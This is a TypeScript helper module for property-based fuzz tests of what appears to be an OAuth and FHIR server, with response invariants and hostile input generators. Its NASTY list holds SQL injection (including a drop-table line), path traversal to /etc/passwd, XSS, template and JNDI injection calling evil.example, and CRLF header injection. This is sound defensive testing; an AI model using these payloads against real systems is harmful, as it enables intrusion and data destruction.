/**
 * Shared pieces of the property-based fuzz suites (issue 8 item 1): hostile input generators,
 * the invariants every response must keep, and a per-endpoint tally of the inputs sent.
 *
 * Invariants (asserted on every generated input): never a 5xx; the endpoint's standard error
 * shape; no stack frame, source path or SQL text in the response; the server still answers a
 * valid request afterwards (each suite checks that after each property).
 *
 * `FUZZ_RUNS=5000 npx vitest run --project unit test/unit/fuzz` raises the number of runs of every
 * property (the default keeps the whole suite well under 90 s).
 */
import fc from 'fast-check';
import { expect } from 'vitest';
import { handleHealth } from '../../../lib/http/health';

const RAISED = Number(process.env.FUZZ_RUNS ?? '');

/** Runs of one property: the default, or FUZZ_RUNS when that is larger. */
export function runs(fallback: number): number {
  return Number.isFinite(RAISED) && RAISED > fallback ? Math.floor(RAISED) : fallback;
}

/** A test timeout that grows with the number of runs (ms per run is a generous upper bound). */
export function timeoutFor(numRuns: number, msPerRun = 150): number {
  return 30_000 + numRuns * msPerRun;
}

// ---- tally ----------------------------------------------------------------------------------

const tally = new Map<string, Map<number, number>>();

/** Counts one input sent to an endpoint, by response status. */
export function count(endpoint: string, status: number): void {
  const byStatus = tally.get(endpoint) ?? new Map<number, number>();
  byStatus.set(status, (byStatus.get(status) ?? 0) + 1);
  tally.set(endpoint, byStatus);
}

/** One line per endpoint: `[fuzz] POST /oauth/token: 1234 inputs, 0 5xx (400×1100 401×120 200×14)`. */
export function printSummary(): void {
  for (const [endpoint, byStatus] of tally) {
    const total = [...byStatus.values()].reduce((a, b) => a + b, 0);
    const errors = [...byStatus].filter(([s]) => s >= 500).reduce((a, [, n]) => a + n, 0);
    const detail = [...byStatus]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}×${n}`)
      .join(' ');
    console.log(`[fuzz] ${endpoint}: ${total} inputs, ${errors} 5xx (${detail})`);
  }
}

// ---- invariants -----------------------------------------------------------------------------

/** What must never appear in a response: internals (stack frames, source paths) or SQL. */
const LEAKS: readonly [string, RegExp][] = [
  ['stack frame', /^\s*at \S.*:\d+:\d+\)?\s*$/m],
  ['stack frame', /\bat (?:async )?[\w$.<>]+ \((?:file:\/\/)?\/[^)]*:\d+:\d+\)/],
  ['source path', /\/work\/|node_modules|\/lib\/[\w/-]+\.[jt]s\b/],
  ['JavaScript error', /\b(?:TypeError|ReferenceError|RangeError)\b|Cannot read propert/],
  ['SQL text', /\bSELECT\b|\bINSERT\b/],
  ['database name', /sqlite|prisma/i],
];

/** A response read once: status, headers, text. */
export interface Seen {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
}

/**
 * Sends one fuzzed request: counts it, reads the body and checks the invariants every endpoint
 * shares (no 5xx, no leak). The hostile SQL payloads below use lower-case keywords so that an
 * echoed input is never mistaken for leaked SQL.
 */
export async function send(endpoint: string, handler: (req: Request) => Promise<Response>, req: Request): Promise<Seen> {
  const res = await handler(req);
  count(endpoint, res.status);
  const text = await res.text();
  const seen: Seen = { status: res.status, headers: res.headers, text };
  assertNoLeak(seen, endpoint);
  return seen;
}

/** No 5xx, no internals. */
export function assertNoLeak(seen: Seen, where: string): void {
  expect(seen.status, `${where} answered ${seen.status}: ${seen.text.slice(0, 400)}`).toBeLessThan(500);
  for (const [what, pattern] of LEAKS) {
    const hit = pattern.exec(seen.text) ?? pattern.exec([...seen.headers].map(([k, v]) => `${k}: ${v}`).join('\n'));
    expect(hit, `${where} leaked ${what}: …${hit ? seen.text.slice(Math.max(0, hit.index - 80), hit.index + 120) : ''}…`).toBeNull();
  }
}

/** RFC 6749 §5.2, RFC 6750 §3.1, RFC 7009 §2.2.1, RFC 7591 §3.2.2, OIDC Core §3.1.2.6 error codes. */
export const OAUTH_ERROR_CODES = new Set([
  'invalid_request',
  'invalid_client',
  'invalid_grant',
  'unauthorized_client',
  'unsupported_grant_type',
  'unsupported_response_type',
  'invalid_scope',
  'access_denied',
  'unsupported_token_type',
  'invalid_token',
  'request_not_supported',
  'request_uri_not_supported',
  'invalid_redirect_uri',
  'invalid_client_metadata',
]);

/** RFC 6749 §5.2: error_description is printable ASCII without `"` and `\`. */
const DESCRIPTION = /^[\x20-\x21\x23-\x5B\x5D-\x7E]*$/;

/** The body of an OAuth JSON error (4xx), checked: `{ error, error_description? }`, no-store. */
export function assertOAuthError(seen: Seen, where: string, allowed?: readonly string[]): { error: string; error_description?: string } {
  expect(seen.status, `${where}: ${seen.text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(seen.headers.get('content-type'), where).toMatch(/^application\/json/);
  expect(seen.headers.get('cache-control'), where).toBe('no-store');
  const body = JSON.parse(seen.text) as Record<string, unknown>;
  expect(
    Object.keys(body).filter((k) => k !== 'error' && k !== 'error_description'),
    where,
  ).toEqual([]);
  expect(typeof body.error, where).toBe('string');
  const error = body.error as string;
  expect(OAUTH_ERROR_CODES.has(error), `${where}: error '${error}' is not an RFC code`).toBe(true);
  if (allowed) expect(allowed, `${where}: ${seen.text.slice(0, 300)}`).toContain(error);
  if (body.error_description !== undefined) {
    expect(typeof body.error_description, where).toBe('string');
    expect(body.error_description as string, where).toMatch(DESCRIPTION);
  }
  // invalid_client after a client assertion or body credentials carries no challenge: the Basic one
  // goes only with a failed Authorization header (RFC 6749 §5.2; docs/CONFORMANCE.md #75).
  if (seen.status === 401 && error !== 'invalid_client') expect(seen.headers.get('www-authenticate'), `${where}: 401 without a challenge`).toBeTruthy();
  return body as { error: string; error_description?: string };
}

/** A FHIR error: an OperationOutcome with at least one issue, each with severity and code. */
export function assertOperationOutcome(seen: Seen, where: string): void {
  expect(seen.status, `${where}: ${seen.text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(seen.headers.get('content-type'), where).toMatch(/^application\/(fhir\+)?json/);
  const body = JSON.parse(seen.text) as { resourceType?: string; issue?: { severity?: string; code?: string }[] };
  expect(body.resourceType, `${where}: ${seen.text.slice(0, 300)}`).toBe('OperationOutcome');
  expect(body.issue?.length, where).toBeGreaterThan(0);
  for (const issue of body.issue ?? []) {
    expect(['fatal', 'error', 'warning', 'information'], where).toContain(issue.severity);
    expect(typeof issue.code, where).toBe('string');
  }
  if (seen.status === 401) expect(seen.headers.get('www-authenticate'), `${where}: 401 without a challenge`).toMatch(/^Bearer /);
}

/** The authorize error page shown before client_id and redirect_uri matched: HTML, 400, page headers. */
export function assertAuthorizeErrorPage(seen: Seen, where: string): void {
  expect(seen.status, `${where}: ${seen.text.slice(0, 300)}`).toBe(400);
  expect(seen.headers.get('content-type'), where).toMatch(/^text\/html/);
  expect(seen.headers.get('location'), where).toBeNull();
  // Only the sandbox's own EHR frame may show it, and it holds no form (lib/oauth/errors.ts).
  expect(seen.headers.get('x-frame-options'), where).toBe('SAMEORIGIN');
  expect(seen.headers.get('content-security-policy'), where).toMatch(/frame-ancestors 'self'.*form-action 'none'/);
  expect(seen.text, where).toMatch(/^<!doctype html>/);
  expect(seen.text, where).toMatch(/<p class="why"><code>[a-z_]+<\/code>/);
}

/** The health endpoint still answers `ok`: the database and the process are fine. */
export async function assertHealthy(): Promise<void> {
  const res = await handleHealth(new Request('http://localhost:3000/api/health'));
  expect(res.status).toBe(200);
  expect(((await res.json()) as { status: string }).status).toBe('ok');
}

// ---- hostile inputs ---------------------------------------------------------------------------

/** Strings that have broken parsers, query builders and templates somewhere. */
export const NASTY: readonly string[] = [
  '',
  ' ',
  "'",
  '"',
  "''",
  "' or '1'='1",
  "' or 1=1 --",
  '" or ""="',
  '\'; drop table "Resource"; --',
  "1' union select null, null --",
  'x\' and (select count(*) from "Token") > 0 --',
  '%',
  '%%',
  '_',
  '%_%',
  '\\',
  '\\%',
  '\u0000',
  'a\u0000b',
  '%00',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '%ff%fe',
  '%u0041',
  '..',
  '../',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f',
  '....//',
  '/',
  '//evil.example',
  '\\\\evil.example\\share',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://evil.example/a}',
  '\r\nSet-Cookie: x=1',
  '\n',
  '\t',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '99999999999999999999999',
  '-0',
  '0x10',
  '[]',
  '{}',
  '{"$gt": ""}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'Zoë',
  'Ångström',
  '\u202Egnp.exe',
  '\uFEFF',
  '\u200B',
  '𝕳𝖊𝖑𝖑𝖔',
  '👩‍⚕️🏥',
  '\uD800',
  '\uDFFF',
  '日本語',
  'مرحبا',
  'A'.repeat(257),
  'A'.repeat(4097),
];

/** Any string a client could send: printable, full Unicode (lone surrogates too), known-nasty, or huge. */
export function hostileString(opts: { huge?: boolean } = {}): fc.Arbitrary<string> {
  const arbs: fc.WeightedArbitrary<string>[] = [
    { arbitrary: fc.string({ maxLength: 40 }), weight: 3 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }), weight: 2 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
    { arbitrary: fc.constantFrom(...NASTY), weight: 4 },
    { arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.string({ maxLength: 10 })).map(([a, b]) => a + b), weight: 1 },
  ];
  if (opts.huge) arbs.push({ arbitrary: fc.constantFrom(5_000, 70_000, 300_000).map((n) => 'x'.repeat(n)), weight: 1 });
  return fc.oneof(...arbs);
}

/** A value that a Headers object accepts (no CR/LF/NUL, Latin-1), hostile otherwise. */
export function hostileHeaderValue(): fc.Arbitrary<string> {
  return fc
    .oneof(
      fc.string({ unit: 'binary-ascii', maxLength: 60 }),
      fc.constantFrom(...NASTY),
      fc.constantFrom(
        'Basic',
        'Basic ',
        'Basic ===',
        'Basic Og==',
        'Basic OjpAOg==',
        'Basic %%%',
        'Bearer',
        'Bearer x.y.z',
        'Digest a=b',
        'basic    YTpi',
        `Basic ${'A'.repeat(100_000)}`,
      ),
    )
    .map((s) => s.replace(/[^\x20-\x7E\x80-\xFF\t]/g, '').trim());
}

/**
 * A query or form string from name/value pairs. `encode` percent-encodes them properly;
 * `raw` pastes them as they are, so `%zz`, stray `&`/`=` and bare `%` reach the parser.
 */
export function toQuery(pairs: readonly (readonly [string, string])[], mode: 'encode' | 'raw'): string {
  if (mode === 'encode') return new URLSearchParams(pairs.map(([k, v]) => [k, v] as [string, string])).toString();
  return pairs.map(([k, v]) => `${k}=${v}`).join('&');
}

/** Content types a client might send by mistake or on purpose. */
export const CONTENT_TYPES: readonly (string | null)[] = [
  null,
  '',
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=utf-8',
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'application/json',
  'application/fhir+json',
  'application/fhir+json; charset=utf-8',
  'application/fhir+xml',
  'text/plain',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded, application/json',
  ';;;',
  'application/json; charset=utf-16',
  '*/*',
];
